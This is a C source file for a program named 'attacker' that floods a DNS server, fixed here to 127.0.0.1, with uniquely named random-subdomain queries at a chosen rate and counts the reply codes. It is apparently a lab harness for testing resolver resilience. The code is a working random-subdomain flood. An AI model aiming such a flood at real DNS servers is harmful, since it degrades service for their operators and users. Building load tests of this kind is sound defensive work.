// attacker IP SERVER-PORT RATE SECONDS DOMAIN: asks for unique names below a domain from one address, at a
// rate, whatever comes back; then says how many were sent, and how many answers had which RCODE.
#include "dns.h"
#include <poll.h>

enum { sockets = 16 };

static uint64_t rcodes[16];

static void drain(const int *descriptors) {
    uint8_t octets[1500];
    for (int index = 0; index < sockets; index++) {
        ssize_t length;
        while ((length = recv(descriptors[index], octets, sizeof octets, MSG_DONTWAIT)) > 11)
            rcodes[octets[3] & 15]++;
    }
}

int main(int count, char **arguments) {
    if (count != 6) return 2;
    double rate = atof(arguments[3]), seconds = atof(arguments[4]);
    struct sockaddr_in server = address("127.0.0.1", arguments[2]);
    int descriptors[sockets];
    for (int index = 0; index < sockets; index++) {
        descriptors[index] = bound_socket(arguments[1], "0");
        connect(descriptors[index], (struct sockaddr *)&server, sizeof server);
    }
    uint64_t start = clock_now(), sent = 0;
    srand48((long)start);
    unsigned long run = (unsigned long)lrand48();
    for (;;) {
        double passed = (double)(clock_now() - start) / 1e9;
        if (passed >= seconds) break;
        while ((double)sent < passed * rate) {
            char name[300];
            uint8_t octets[512];
            snprintf(name, sizeof name, "%lx-%lx.%s", run, (unsigned long)sent, arguments[5]);
            size_t length = write_query(octets, (uint16_t)sent, name);
            send(descriptors[sent % sockets], octets, length, MSG_DONTWAIT);
            sent++;
        }
        drain(descriptors);
        poll(NULL, 0, 1);
    }
    drain(descriptors);
    printf("attacker: %lu queries sent in %.1f s; NOERROR %lu, SERVFAIL %lu, REFUSED %lu\n",
           (unsigned long)sent, seconds, (unsigned long)rcodes[0], (unsigned long)rcodes[2],
           (unsigned long)rcodes[5]);
}
